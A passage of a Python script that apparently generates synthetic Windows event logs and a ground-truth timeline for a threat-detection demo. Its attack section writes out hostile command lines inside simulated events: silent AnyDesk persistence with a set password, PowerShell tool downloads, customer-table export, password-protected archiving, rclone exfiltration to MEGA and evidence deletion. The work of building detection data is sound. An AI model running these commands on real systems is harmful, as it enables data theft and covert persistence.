    t = later(t, 20, 40)
    ad = process(t, ws03, SVC_BACKUP, "C:\\ProgramData\\AnyDesk.exe",
                 "\"C:\\ProgramData\\AnyDesk.exe\" --install C:\\ProgramData\\AnyDesk --start-with-win --silent",
                 bcmd, integrity="High", tags=A, token="%%1937")
    filecreate(later(t, 1, 2), ad, "C:\\ProgramData\\AnyDesk\\AnyDesk.exe", tags=A)
    service_installed(later(t, 2, 3), ws03, "AnyDesk Service",
                      "\"C:\\ProgramData\\AnyDesk\\AnyDesk.exe\" --service", "LocalSystem",
                      SVC_BACKUP.sid, tags=A)
    svc = process(later(t, 3, 4), ws03, "NT AUTHORITY\\SYSTEM", "C:\\ProgramData\\AnyDesk\\AnyDesk.exe",
                  "\"C:\\ProgramData\\AnyDesk\\AnyDesk.exe\" --service", ws03.p_services,
                  integrity="System", tags=A, token="%%1936")
    ws03.p_anydesk = svc
    t = later(t, 15, 30)
    process(t, ws03, SVC_BACKUP, "C:\\Windows\\System32\\cmd.exe",
            "cmd.exe /c \"echo Q7v!x2Lr9 | C:\\ProgramData\\AnyDesk.exe --set-password\"", bcmd,
            integrity="High", tags=A, token="%%1937")
    netconn(later(t, 2, 5), svc, ANYDESK_RELAY_IP, 443, "relay-3f2a8c11.net.anydesk.com", tags=A)
    # RDP hop WS03 -> FS01 with svc_backup
    t = at(1, 2, 6, 40.1)
    note(t, "WS03 -> FS01", "svc_backup", "RDP to the file server with explicit svc_backup "
         "credentials (the account never logs on interactively otherwise)",
         "ws-winlogbeat: Sysmon 1 mstsc.exe, 4648 (TargetServerName FS01), Sysmon 3 :3389; "
         "fs01-evtx: 1149, 4624 LogonType 10 from 10.10.20.53, 4672, LSM 21/22; dc01: 4769")
    mstsc = process(t, ws03, okafor, "C:\\Windows\\System32\\mstsc.exe",
                    "\"C:\\Windows\\system32\\mstsc.exe\" /v:FS01", s_ws03.explorer, lid=s_ws03.lid, tags=A)
    explicit_creds(later(t, 4, 9), ws03, okafor, s_ws03.lid, SVC_BACKUP, FS01.fqdn, FS01.fqdn,
                   "C:\\Windows\\System32\\mstsc.exe", mstsc.pid, ip=FS01.ip, port="3389", tags=A)
    service_ticket(later(t, 9, 9.5), SVC_BACKUP, FS01, ws03.ip, "TERMSRV", tags=A)
    netconn(later(t, 9.5, 10), mstsc, FS01.ip, 3389, FS01.fqdn, tags=A)
    s_fs = rdp_logon(later(t, 10, 11), FS01, SVC_BACKUP, ws03.ip, "WS03", 3, tags=A)
    # tools onto FS01
    t = later(s_fs.t, 120, 200)
    note(t, "FS01", "svc_backup", "tools downloaded to C:\\PerfLogs: 7zr.exe, rclone",
         "servers-sysmon: Sysmon 1 powershell, Sysmon 3 to 7-zip.org / downloads.rclone.org, "
         "Sysmon 11; fs01-evtx: 4688")
    fcmd = process(t, FS01, SVC_BACKUP, "C:\\Windows\\System32\\cmd.exe", "\"C:\\Windows\\system32\\cmd.exe\"",
                   s_fs.explorer, lid=s_fs.lid, integrity="High", tags=A, token="%%1937")
    for c in ["net share", "dir D:\\Shares"]:
        t = later(t, 10, 40)
        process(t, FS01, SVC_BACKUP, "C:\\Windows\\System32\\net.exe" if c.startswith("net") else
                "C:\\Windows\\System32\\cmd.exe", c if c.startswith("net") else "cmd.exe /c " + c,
                fcmd, integrity="High", tags=A, token="%%1937")
    t = later(t, 30, 60)
    ps = process(t, FS01, SVC_BACKUP, "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                 "powershell.exe -nop -c \"iwr https://www.7-zip.org/a/7zr.exe -OutFile C:\\PerfLogs\\7zr.exe; "
                 "iwr https://downloads.rclone.org/v1.65.2/rclone-v1.65.2-windows-amd64.zip -OutFile C:\\PerfLogs\\rc.zip; "
                 "Expand-Archive C:\\PerfLogs\\rc.zip C:\\PerfLogs\\rc\"", fcmd, integrity="High", tags=A,
                 token="%%1937")
    netconn(later(t, 1, 2), ps, SEVENZIP_DOWNLOAD_IP, 443, "www.7-zip.org", tags=A)
    filecreate(later(t, 2, 3), ps, "C:\\PerfLogs\\7zr.exe", tags=A)
    netconn(later(t, 3, 4), ps, RCLONE_DOWNLOAD_IP, 443, "downloads.rclone.org", tags=A)
    filecreate(later(t, 8, 12), ps, "C:\\PerfLogs\\rc.zip", tags=A)
    filecreate(later(t, 14, 18), ps,
               "C:\\PerfLogs\\rc\\rclone-v1.65.2-windows-amd64\\rclone.exe", tags=A)
    # RDP hop FS01 -> SQL01
    t = at(1, 2, 31, 5.0)
    note(t, "FS01 -> SQL01", "svc_backup", "RDP from the file server to the customer database "
         "server", "servers-sysmon: Sysmon 1 mstsc.exe; fs01-evtx: 4648 (TargetServerName SQL01); "
         "sql01-evtx: 1149, 4624 LogonType 10 from 10.10.10.20, 4672, LSM 21/22")
    mstsc2 = process(t, FS01, SVC_BACKUP, "C:\\Windows\\System32\\mstsc.exe",
                     "\"C:\\Windows\\system32\\mstsc.exe\" /v:SQL01", s_fs.explorer, lid=s_fs.lid,
                     integrity="High", tags=A, token="%%1937")
    explicit_creds(later(t, 3, 6), FS01, SVC_BACKUP, s_fs.lid, SVC_BACKUP, SQL01.fqdn, SQL01.fqdn,
                   "C:\\Windows\\System32\\mstsc.exe", mstsc2.pid, ip=SQL01.ip, port="3389", tags=A)
    service_ticket(later(t, 6, 6.5), SVC_BACKUP, SQL01, FS01.ip, "TERMSRV", tags=A)
    netconn(later(t, 6.5, 7), mstsc2, SQL01.ip, 3389, SQL01.fqdn, tags=A)
    s_sql = rdp_logon(later(t, 7, 8), SQL01, SVC_BACKUP, FS01.ip, "FS01", 2, tags=A)
    t = later(s_sql.t, 60, 120)
    note(t, "SQL01", "svc_backup", "database discovery with sqlcmd (databases, size of "
         "dbo.Customers)", "servers-sysmon / sql01-evtx: Sysmon 1 / 4688 sqlcmd.exe")
    scmd = process(t, SQL01, SVC_BACKUP, "C:\\Windows\\System32\\cmd.exe", "\"C:\\Windows\\system32\\cmd.exe\"",
                   s_sql.explorer, lid=s_sql.lid, integrity="High", tags=A, token="%%1937")
    sqlcmd = "C:\\Program Files\\Microsoft SQL Server\\Client SDK\\ODBC\\170\\Tools\\Binn\\sqlcmd.exe"
    for q in ["SELECT name FROM sys.databases",
              "SELECT COUNT(*) FROM CustomerDB.dbo.Customers"]:
        t = later(t, 20, 90)
        process(t, SQL01, SVC_BACKUP, sqlcmd, "sqlcmd -S localhost -E -Q \"%s\"" % q, scmd,
                integrity="High", tags=A, token="%%1937")
    # admin share fan-out from FS01
    t = at(1, 2, 52, 10.0)
    targets = WORKSTATIONS + [SQL01, DC01]
    note(t, "FS01 -> %d hosts" % len(targets), "svc_backup", "admin share fan-out: C$ of every "
         "workstation, SQL01 and DC01 listed within minutes (looking for data)",
         "servers-sysmon: Sysmon 1 cmd.exe /c dir \\\\host\\C$\\Users, Sysmon 3 :445; on each "
         "target 4624 LogonType 3 + 4672 + 5140 C$/ADMIN$ + 5145 (ws-winlogbeat, sql01-evtx, "
         "dc01); dc01: 4769 cifs")
    for target in targets:
        t = later(t, 15, 70)
        c = process(t, FS01, SVC_BACKUP, "C:\\Windows\\System32\\cmd.exe",
                    "cmd.exe /c dir \\\\%s\\C$\\Users" % target.name, fcmd, integrity="High",
                    tags=A, token="%%1937")
        service_ticket(later(t, 0.05, 0.1), SVC_BACKUP, target, FS01.ip, tags=A)
        netconn(later(t, 0.1, 0.15), FS01.p_system, target.ip, 445, target.fqdn, tags=A)
        lid = logon(later(t, 0.15, 0.3), target, SVC_BACKUP, 3, ip=FS01.ip,
                    port=str(R.randrange(49152, 65000)), tags=A)
        share = "ADMIN$" if target is DC01 else "C$"
        rels = ["Users"] + (["Users\\%s\\Documents" % u.sam for u in USERS if u.host is target])
        if share == "ADMIN$":
            share_access(later(t, 0.3, 0.5), target, SVC_BACKUP, lid, FS01.ip, "ADMIN$",
                         "\\??\\C:\\Windows", ["NTDS"], tags=A)
        share_access(later(t, 0.5, 0.8), target, SVC_BACKUP, lid, FS01.ip, "C$", "\\??\\C:\\",
                     rels, tags=A)
        logoff(later(t, 5, 30), target, SVC_BACKUP, lid, 3, tags=A)
    # disconnect for the night
    t = at(1, 3, 16, 44.0)
    note(t, "SQL01, FS01, WS03", "svc_backup, d.okafor", "RDP sessions disconnected (left open "
         "for later)", "LSM 24 + 4779 on SQL01, FS01, WS03")
    rdp_disconnect(t, s_sql, tags=A)
    rdp_disconnect(later(t, 20, 40), s_fs, tags=A)
    rdp_disconnect(later(t, 60, 90), s_ws03, tags=A)

    # --- night 2 (2025-03-13, 01:45-05:00 local) --------------------------------------------
    t = at(2, 0, 46, 12.0)
    note(t, "WS03", "(AnyDesk)", "attacker comes back through AnyDesk (no password needed any "
         "more)", "ws-winlogbeat: Sysmon 3 AnyDesk.exe to %s:443, Sysmon 1 AnyDesk.exe --backend"
         % ANYDESK_RELAY_IP)
    netconn(t, ws03.p_anydesk, ANYDESK_RELAY_IP, 443, "relay-3f2a8c11.net.anydesk.com", tags=A)
    adb = process(later(t, 2, 4), ws03, "NT AUTHORITY\\SYSTEM", "C:\\ProgramData\\AnyDesk\\AnyDesk.exe",
                  "\"C:\\ProgramData\\AnyDesk\\AnyDesk.exe\" --backend", ws03.p_anydesk,
                  integrity="System", tags=A, token="%%1936")
    t = later(t, 40, 70)
    note(t, "WS03", "svc_backup", "console logon of svc_backup on WS03 through the AnyDesk "
         "session (a service account, interactive, at night)",
         "ws-winlogbeat: 4624 LogonType 2 + 4672, Sysmon 1 userinit/explorer")
    kerberos_tgt(later(t, -0.5, -0.1), SVC_BACKUP, ws03.ip, tags=A)
    clid = logon(t, ws03, SVC_BACKUP, 2, ip="127.0.0.1", workstation=ws03.name, package="User32 ",
                 process="C:\\Windows\\System32\\svchost.exe",
                 process_id="0x%x" % ws03.svchost_lsm_pid, subject_system=True, tags=A)
    ui = process(later(t, 1, 2), ws03, SVC_BACKUP, "C:\\Windows\\System32\\userinit.exe",
                 "C:\\Windows\\system32\\userinit.exe", ws03.p_winlogon, lid=clid, tags=A)
    ex = process(later(t, 2, 4), ws03, SVC_BACKUP, "C:\\Windows\\explorer.exe",
                 "C:\\Windows\\Explorer.EXE", ui, lid=clid, tags=A)
    t = later(t, 60, 120)
    mstsc = process(t, ws03, SVC_BACKUP, "C:\\Windows\\System32\\mstsc.exe",
                    "\"C:\\Windows\\system32\\mstsc.exe\" /v:FS01", ex, lid=clid, tags=A)
    note(t, "WS03 -> FS01", "svc_backup", "RDP session on FS01 reconnected",
         "fs01-evtx: 1149, 4624 LogonType 10, LSM 25, 4778")
    explicit_creds(later(t, 3, 6), ws03, SVC_BACKUP, clid, SVC_BACKUP, FS01.fqdn, FS01.fqdn,
                   "C:\\Windows\\System32\\mstsc.exe", mstsc.pid, ip=FS01.ip, port="3389", tags=A)
    service_ticket(later(t, 6, 6.5), SVC_BACKUP, FS01, ws03.ip, "TERMSRV", tags=A)
    netconn(later(t, 6.5, 7), mstsc, FS01.ip, 3389, FS01.fqdn, tags=A)
    t = rdp_reconnect(later(t, 7, 8), s_fs, ws03.ip, tags=A)
    # staging on FS01
    t = at(2, 1, 5, 30.0)
    note(t, "FS01", "svc_backup", "staging: file shares packed into password-protected 7z "
         "volumes in C:\\PerfLogs", "servers-sysmon: Sysmon 1 7zr.exe a -p... -v1g, Sysmon 11; "
         "fs01-evtx: 4688")
    fcmd2 = process(t, FS01, SVC_BACKUP, "C:\\Windows\\System32\\cmd.exe", "\"C:\\Windows\\system32\\cmd.exe\"",
                    s_fs.explorer, lid=s_fs.lid, integrity="High", tags=A, token="%%1937")
    for share in ["Finance", "HR", "Projects", "Sales", "Support"]:
        t = later(t, 90, 420)
        z = process(t, FS01, SVC_BACKUP, "C:\\PerfLogs\\7zr.exe",
                    "C:\\PerfLogs\\7zr.exe a -t7z -mx1 -v1g -pGh7!kQz2 -mhe=on C:\\PerfLogs\\%s.7z D:\\Shares\\%s"
                    % (share.lower(), share), fcmd2, integrity="High", tags=A, token="%%1937",
                    cwd="C:\\PerfLogs\\")
        filecreate(later(t, 1, 3), z, "C:\\PerfLogs\\%s.7z.001" % share.lower(), tags=A)
    # SQL01: export the customer table, rar it, copy it to FS01
    t = at(2, 1, 12, 3.0)
    note(t, "SQL01", "svc_backup", "RDP session on SQL01 reconnected; customer table exported "
         "with sqlcmd and packed with rar", "sql01-evtx: 1149, LSM 25, 4778, 4688; servers-sysmon: "
         "Sysmon 1 sqlcmd (SELECT * FROM dbo.Customers -o C:\\PerfLogs\\cust.csv), the "
         "installed WinRAR's Rar.exe a -hp, copy to \\\\FS01\\C$ (fs01-evtx: 5140/5145)")
    mstsc2 = process(t, FS01, SVC_BACKUP, "C:\\Windows\\System32\\mstsc.exe",
                     "\"C:\\Windows\\system32\\mstsc.exe\" /v:SQL01", s_fs.explorer, lid=s_fs.lid,
                     integrity="High", tags=A, token="%%1937")
    explicit_creds(later(t, 3, 5), FS01, SVC_BACKUP, s_fs.lid, SVC_BACKUP, SQL01.fqdn, SQL01.fqdn,
                   "C:\\Windows\\System32\\mstsc.exe", mstsc2.pid, ip=SQL01.ip, port="3389", tags=A)
    netconn(later(t, 5, 6), mstsc2, SQL01.ip, 3389, SQL01.fqdn, tags=A)
    t = rdp_reconnect(later(t, 6, 7), s_sql, FS01.ip, tags=A)
    scmd = process(later(t, 20, 40), SQL01, SVC_BACKUP, "C:\\Windows\\System32\\cmd.exe",
                   "\"C:\\Windows\\system32\\cmd.exe\"", s_sql.explorer, lid=s_sql.lid,
                   integrity="High", tags=A, token="%%1937")
    t = later(t, 60, 120)
    q = process(t, SQL01, SVC_BACKUP, sqlcmd,
                "sqlcmd -S localhost -E -d CustomerDB -Q \"SET NOCOUNT ON; SELECT * FROM dbo.Customers\" "
                "-s \",\" -W -o C:\\PerfLogs\\cust.csv", scmd, integrity="High", tags=A, token="%%1937")
    filecreate(later(t, 1, 2), q, "C:\\PerfLogs\\cust.csv", tags=A)
    t = later(t, 95, 160)
    rar = process(t, SQL01, SVC_BACKUP, "C:\\Program Files\\WinRAR\\Rar.exe",
                  "\"C:\\Program Files\\WinRAR\\Rar.exe\" a -m5 -hpGh7!kQz2 C:\\PerfLogs\\cust.rar C:\\PerfLogs\\cust.csv",
                  scmd, integrity="High", tags=A, token="%%1937", cwd="C:\\PerfLogs\\")
    filecreate(later(t, 1, 3), rar, "C:\\PerfLogs\\cust.rar", tags=A)
    t = later(t, 40, 80)
    process(t, SQL01, SVC_BACKUP, "C:\\Windows\\System32\\cmd.exe",
            "cmd.exe /c copy C:\\PerfLogs\\cust.rar \\\\FS01\\C$\\PerfLogs\\", scmd,
            integrity="High", tags=A, token="%%1937")
    service_ticket(later(t, 0.1, 0.2), SVC_BACKUP, FS01, SQL01.ip, tags=A)
    lid = logon(later(t, 0.2, 0.3), FS01, SVC_BACKUP, 3, ip=SQL01.ip,
                port=str(R.randrange(49152, 65000)), tags=A)
    share_access(later(t, 0.3, 0.5), FS01, SVC_BACKUP, lid, SQL01.ip, "C$", "\\??\\C:\\",
                 ["PerfLogs\\cust.rar"], access="0x2", access_list="%%4417", tags=A)
    logoff(later(t, 5, 10), FS01, SVC_BACKUP, lid, 3, tags=A)
    rdp_logoff(later(t, 30, 60), s_sql, tags=A)
    # exfiltration with rclone from FS01
    t = at(2, 1, 47, 18.0)
    rc = process(t, FS01, SVC_BACKUP, "C:\\PerfLogs\\rc\\rclone-v1.65.2-windows-amd64\\rclone.exe",
                 "C:\\PerfLogs\\rc\\rclone-v1.65.2-windows-amd64\\rclone.exe copy C:\\PerfLogs mega:bkp "
                 "--include \"*.7z.*\" --include \"*.rar\" --transfers 4 --multi-thread-streams 4 "
                 "--config C:\\PerfLogs\\rc\\rclone.conf -q --ignore-existing --auto-confirm",
                 fcmd2, integrity="High", tags=A, token="%%1937", cwd="C:\\PerfLogs\\")
    netconn(later(t, 0.5, 1), rc, MEGA_API_IP, 443, "g.api.mega.co.nz", tags=A)
    end = at(2, 3, 52, 0.0)
    n = 0
    tt = later(t, 2, 5)
    while tt < end:
        ip = MEGA_STORAGE_IPS[n % len(MEGA_STORAGE_IPS)]
        netconn(tt, rc, ip, 443, "gfs%dn%d.userstorage.mega.co.nz" % (204 + n % 7, 100 + n % 30), tags=A)
        n += 1
        tt = later(tt, 60, 170)
    note(t, "FS01", "svc_backup", "exfiltration: rclone copies C:\\PerfLogs to MEGA for two "
         "hours (%d connections)" % (n + 1), "servers-sysmon: Sysmon 1 rclone.exe copy ... mega:, "
         "Sysmon 3 rclone.exe to %s and %s..:443; fs01-evtx: 4688" % (MEGA_API_IP, MEGA_STORAGE_IPS[0][:-3]))
    t = at(2, 3, 58, 40.0)
    note(t, "FS01", "svc_backup", "clean-up: archives deleted, RDP logoff",
         "servers-sysmon: Sysmon 1 cmd.exe /c del; fs01-evtx: LSM 23, 4647, 4634")
    process(t, FS01, SVC_BACKUP, "C:\\Windows\\System32\\cmd.exe",
            "cmd.exe /c del /q C:\\PerfLogs\\*.7z.* C:\\PerfLogs\\cust.rar C:\\PerfLogs\\rc.zip",
            fcmd2, integrity="High", tags=A, token="%%1937")
    rdp_logoff(later(t, 30, 60), s_fs, tags=A)


# ---------------------------------------------------------------------------
# output shapes
# ---------------------------------------------------------------------------

def iso_us(t):
    return t.strftime("%Y-%m-%dT%H:%M:%S.") + "%06dZ" % t.microsecond


def iso_ms(t):
    return t.strftime("%Y-%m-%dT%H:%M:%S.") + "%03dZ" % (t.microsecond // 1000)


def guid_plain(g):
    """evtx_dump prints GUIDs upper case without braces."""
    return g.strip("{}").upper()


GUID_FIELDS = {"LogonGuid", "TargetLogonGuid", "ProcessGuid", "ParentProcessGuid"}


def evtx_dump_value(key, value):
    if key in GUID_FIELDS and isinstance(value, str) and value.startswith("{"):
        return guid_plain(value)
    return value


def to_evtx_dump(e):
    system = {
        "Provider": {"#attributes": {"Name": e.provider[0], "Guid": e.provider[1]}},
        "EventID": e.eid if e.qualifiers is None else
        {"#attributes": {"Qualifiers": e.qualifiers}, "#text": e.eid},
        "Version": e.version, "Level": e.level, "Task": e.task, "Opcode": e.opcode,
        "Keywords": "0x%x" % e.keywords,
        "TimeCreated": {"#attributes": {"SystemTime": iso_us(e.t)}},
        "EventRecordID": e.record_id,
        "Correlation": {"#attributes": {"ActivityID": guid_plain(e.activity_id)}}
        if e.activity_id else None,
        "Execution": {"#attributes": {"ProcessID": e.pid, "ThreadID": e.tid}},
        "Channel": e.channel, "Computer": e.host.fqdn,
        "Security": {"#attributes": {"UserID": e.user_sid}} if e.user_sid else None,
    }
    if e.provider is SCM:
        system["Provider"]["#attributes"]["EventSourceName"] = "Service Control Manager"
    event = {"#attributes": {"xmlns": "http://schemas.microsoft.com/win/2004/08/events/event"},
             "System": system}
    if e.user_data:
        name, xmlns, d = e.user_data
        inner = {"#attributes": {"xmlns": xmlns}}
        inner.update(d)
        event["UserData"] = {name: inner}
    else:
        event["EventData"] = {k: evtx_dump_value(k, v) for k, v in e.data.items()}
    return {"Event": event}


def text_value(value):
    """How Windows renders a value in XML (and so Winlogbeat / nxlog print it)."""
    if isinstance(value, bool):
        return "true" if value else "false"
    return str(value)


def account_of_sid(sid):
    if sid == SYSTEM_SID:
        return ("NT AUTHORITY", "SYSTEM")
    if sid == NETWORK_SERVICE_SID:
        return ("NT AUTHORITY", "NETWORK SERVICE")
    if sid == LOCAL_SERVICE_SID:
        return ("NT AUTHORITY", "LOCAL SERVICE")
    for a in ALL_ACCOUNTS:
        if a.sid == sid:
            return (DOMAIN, a.sam)
    return ("-", "-")


ECS_ACTIONS = {
    4624: ("logged-in", ["authentication"], ["start"], "success"),
    4625: ("logon-failed", ["authentication"], ["start"], "failure"),
    4634: ("logged-out", ["authentication"], ["end"], "success"),
    4647: ("logged-out", ["authentication"], ["end"], "success"),
    4648: ("logged-in-explicit", ["authentication"], ["start"], "success"),
    4672: ("logged-in-special", ["iam"], ["admin"], "success"),
    4688: ("created-process", ["process"], ["start"], "success"),
    4778: ("session-reconnected", ["authentication", "session"], ["start"], "success"),
    4779: ("session-disconnected", ["authentication", "session"], ["end"], "success"),
    5140: ("network-share-object-accessed", ["network", "file"], ["info", "access"], "success"),
    5145: ("network-share-object-access-checked", ["network", "file"], ["info", "access"], "success"),
}


def to_ecs(e):
    h = e.host
    if e.channel == CH_SEC:
        task_name = SEC_META[e.eid][1]
        kw = ["Audit Success"] if e.keywords == KW_SUCCESS else ["Audit Failure"]
        module = "security"
    elif e.channel == CH_SYSMON:
        task_name = SYSMON_META[e.eid][1]
        kw = []
        module = "sysmon"
    else:
        task_name = "None"
        kw = ["Classic"] if e.keywords == KW_CLASSIC else []
        module = None
    event = {"code": str(e.eid), "kind": "event", "provider": e.provider[0]}
    if module == "security" and e.eid in ECS_ACTIONS:
        action, cat, typ, outcome = ECS_ACTIONS[e.eid]
        event.update({"action": action, "category": cat, "type": typ, "outcome": outcome})
    elif module == "sysmon":
        event.update({"action": task_name, "category": {1: ["process"], 3: ["network"], 11: ["file"]}[e.eid],
                      "type": {1: ["start"], 3: ["connection", "start", "protocol"], 11: ["creation"]}[e.eid]})
    event["created"] = iso_ms(e.t + dt.timedelta(seconds=0.4 + (e.seq % 97) / 100.0))
    if module:
        event["module"] = module
    winlog = {
        "channel": e.channel, "computer_name": h.fqdn, "event_id": str(e.eid),
        "provider_name": e.provider[0], "provider_guid": "{%s}" % e.provider[1],
        "record_id": str(e.record_id), "api": "wineventlog",
        "process": {"pid": e.pid, "thread": {"id": e.tid}},
        "opcode": "Info", "version": e.version,
    }
    if task_name != "None":
        winlog["task"] = task_name
    if kw:
        winlog["keywords"] = kw
    if e.activity_id:
        winlog["activity_id"] = e.activity_id
    if e.user_sid:
        dom, name = account_of_sid(e.user_sid)
        winlog["user"] = {"identifier": e.user_sid, "domain": dom, "name": name, "type": "User"}
    if e.user_data:
        name, xmlns, d = e.user_data
        ud = {k: text_value(v) for k, v in d.items()}
        ud["xml_name"] = name
        winlog["user_data"] = ud
    else:
        winlog["event_data"] = {k: text_value(v) for k, v in e.data.items()}
    return {
        "@timestamp": iso_ms(e.t),
        "agent": {"type": "winlogbeat", "version": "8.12.2", "name": h.name, "id": h.agent_id,
                  "ephemeral_id": h.ephemeral_id},
        "ecs": {"version": "8.0.0"},
        "host": {"name": h.name.lower(), "hostname": h.name.lower(), "architecture": "x86_64",
                 "os": {"family": "windows", "name": h.os_name, "kernel": "10.0.%s" % h.build,
                        "build": h.build, "platform": "windows", "type": "windows",
                        "version": "10.0"},
                 "ip": [h.ip], "mac": [h.mac], "id": h.host_id},
        "event": event,
        "log": {"level": "information"},
        "message": e.message,
        "winlog": winlog,
    }


def to_flat(e):
    """nxlog im_msvistalog -> Logstash, as in the OTRF (Mordor) data sets."""
    dom, name = account_of_sid(e.user_sid) if e.user_sid else ("-", "-")
    out = {
        "@timestamp": iso_ms(e.t), "@version": "1",
        "EventTime": (e.t + LOCAL_OFFSET).strftime("%Y-%m-%d %H:%M:%S"),
        "EventReceivedTime": (e.t + LOCAL_OFFSET + dt.timedelta(seconds=1)).strftime("%Y-%m-%d %H:%M:%S"),
        "Hostname": e.host.fqdn, "Keywords": e.keywords - (1 << 64) if e.keywords >> 63 else e.keywords,
        "EventType": "INFO", "SeverityValue": 2, "Severity": "INFO", "EventID": e.eid,
        "SourceName": e.provider[0], "ProviderGuid": "{%s}" % e.provider[1], "Version": e.version,
        "Task": e.task, "OpcodeValue": e.opcode, "RecordNumber": e.record_id,
        "ExecutionProcessID": e.pid, "ExecutionThreadID": e.tid, "Channel": e.channel,
        "Domain": dom, "AccountName": name, "UserID": e.user_sid, "AccountType": "User",
        "Category": SYSMON_META[e.eid][1] if e.channel == CH_SYSMON else "None",
        "Opcode": "Info",
    }
    for k, v in e.data.items():
        out[k] = text_value(v)
    out.update({"SourceModuleName": "eventlog", "SourceModuleType": "im_msvistalog",
                "host": "logstash01.corp.local", "port": 5514, "type": "nxlog"})
    return out


def dumps(obj):
    return json.dumps(obj, ensure_ascii=False, separators=(",", ":"))


# ---------------------------------------------------------------------------
# main
# ---------------------------------------------------------------------------

def generate():
    for day in range(DAYS):
        for user in USERS:
            workstation_day(day, user)
        for host in HOSTS:
            scheduled_background(day, host)
            server_background(day, host)
        dc_background(day)
        backup_night(day)
    attack()
    # record ids per host and channel, in time order
    start_ids = {}
    EVENTS.sort(key=lambda e: (e.t, e.seq))
    for e in EVENTS:
        key = (e.host.name, e.channel)
        if key not in start_ids:
            base = {CH_SEC: 180000, CH_SYSMON: 900000, CH_SYS: 21000, CH_LSM: 400, CH_RCM: 250}[e.channel]
            start_ids[key] = base + R.randrange(0, base // 2)
        start_ids[key] += 1
        e.record_id = start_ids[key]


def write_files(out_dir):
    os.makedirs(out_dir, exist_ok=True)
    files = {}

    def add(name, line):
        files.setdefault(name, []).append(line)

    for e in EVENTS:
        h = e.host
        if h.kind == "ws":
            add("ws-winlogbeat.jsonl.gz", dumps(to_ecs(e)))
        elif e.channel == CH_SYSMON:
            add("servers-sysmon.jsonl", dumps(to_flat(e)))
        elif h is DC01:
            add("dc01-security.jsonl", dumps(to_evtx_dump(e)))
        else:
            add("%s-evtx.jsonl" % h.name.lower(), dumps(to_evtx_dump(e)))
    sizes = {}
    for name, lines in sorted(files.items()):
        data = ("\n".join(lines) + "\n").encode("utf-8")
        path = os.path.join(out_dir, name)
        if name.endswith(".gz"):
            buf = io.BytesIO()
            with gzip.GzipFile(filename="", mode="wb", fileobj=buf, mtime=0, compresslevel=9) as gz:
                gz.write(data)
            data = buf.getvalue()
        with open(path, "wb") as f:
            f.write(data)
        sizes[name] = (len(lines), len(data))
    return sizes


def ground_truth(sizes):
    attack_events = [e for e in EVENTS if "attack" in e.tags]
    first = min(e.t for e in attack_events)
    last = max(e.t for e in attack_events)
    lines = []
    w = lines.append
    w("# Demo data set: ground truth")
    w("")
    w("Generated by `demo/make_demo.py` (seed %d). Do not edit: change the script and "
      "regenerate." % SEED)
    w("")
    w("Company CORP (`%s`, domain SID `%s`), %d workstations, file server FS01, customer "
      "database server SQL01, domain controller DC01. Logs cover %s to %s UTC "
      "(local time is UTC+1). The story is breach 1 of docs/DESIGN.md: bought RDP and AD "
      "credentials, remote-access software that admins also use, roaming over RDP and admin "
      "shares, staging and exfiltration at night."
      % (DNS_DOMAIN, DOMAIN_SID, len(WORKSTATIONS), START.strftime("%Y-%m-%d %H:%M"),
         (START + dt.timedelta(days=DAYS) - dt.timedelta(seconds=1)).strftime("%Y-%m-%d %H:%M")))
    w("")
    w("## Files")
    w("")
    w("| file | shape | events | bytes |")
    w("|---|---|---:|---:|")
    shapes = {"dc01-security.jsonl": "evtx_dump (`{\"Event\":{\"System\":..,\"EventData\":..}}`)",
              "fs01-evtx.jsonl": "evtx_dump, UserData for TerminalServices",
              "sql01-evtx.jsonl": "evtx_dump, UserData for TerminalServices",
              "ws-winlogbeat.jsonl.gz": "Winlogbeat 8 ECS (`winlog.event_data` / `winlog.user_data`), gzip",
              "servers-sysmon.jsonl": "flat nxlog/OTRF (`EventID`, `Channel`, `Hostname`, `@timestamp`, data at top level)"}
    for name, (n, size) in sorted(sizes.items()):
        w("| `%s` | %s | %d | %d |" % (name, shapes[name], n, size))
    w("| total | | %d | %d |" % (sum(n for n, _ in sizes.values()), sum(s for _, s in sizes.values())))
    w("")
    w("%d of %d events belong to the attack; the rest is ordinary business." % (
        len(attack_events), len(EVENTS)))
    w("")
    w("## Attack timeline (UTC)")
    w("")
    w("| time | host | account | what | evidence |")
    w("|---|---|---|---|---|")
    for t, host, account, what, evidence in sorted(TIMELINE, key=lambda x: x[0]):
        w("| %s | %s | %s | %s | %s |" % (t.strftime("%Y-%m-%d %H:%M:%S"), host, account,
                                          what.replace("|", "\\|"), evidence.replace("|", "\\|")))
    w("")
    w("First attack event %s, last %s." % (iso_ms(first), iso_ms(last)))
    w("")
    w("## Entities")
    w("")
    w("Compromised accounts:")
    w("")
    w("- `CORP\\d.okafor` (David Okafor, field sales, %s): RDP password stolen (info-stealer "
      "on his home PC). Normally RDPs into WS03 from his home IP %s in office hours; the "
      "attacker uses it from %s at night." % (BY_SAM["d.okafor"].sid, HOME_IP_OKAFOR, ATTACKER_IP))
    w("- `CORP\\svc_backup` (%s): backup service account, local admin on every machine, "
      "credentials bought. Normally only network logons from FS01 to DC01 and SQL01 ADMIN$ "
      "at 23:30 UTC; the attacker uses it for runas, RDP (LogonType 10) and the C$ fan-out."
      % SVC_BACKUP.sid)
    w("")
    w("Attacker infrastructure:")
    w("")
    w("- `%s` RDP source (client name `%s`)" % (ATTACKER_IP, ATTACKER_CLIENT))
    w("- `%s` AnyDesk relay (`relay-3f2a8c11.net.anydesk.com`), `%s` download.anydesk.com"
      % (ANYDESK_RELAY_IP, ANYDESK_DOWNLOAD_IP))
    w("- `%s` g.api.mega.co.nz and %s (userstorage.mega.co.nz): exfiltration by rclone"
      % (MEGA_API_IP, ", ".join("`%s`" % ip for ip in MEGA_STORAGE_IPS)))
    w("- tool downloads: `%s` www.7-zip.org, `%s` downloads.rclone.org"
      % (SEVENZIP_DOWNLOAD_IP, RCLONE_DOWNLOAD_IP))
    w("")
    w("Hosts: WS03 (entry, AnyDesk persistence), FS01 (staging and exfiltration), SQL01 "
      "(customer table exported), every other workstation and DC01 (C$/ADMIN$ listed in the "
      "fan-out).")
    w("")
    w("Artifacts: `C:\\ProgramData\\AnyDesk.exe`, service `AnyDesk Service`, "
      "`C:\\PerfLogs\\7zr.exe`, `C:\\PerfLogs\\rc\\...\\rclone.exe`, `C:\\PerfLogs\\*.7z.001`, "
      "`C:\\PerfLogs\\cust.csv`, `C:\\PerfLogs\\cust.rar`, password `Gh7!kQz2`.")
    w("")
    w("## Look-alikes (benign, must not be scored like the attack)")
    w("")
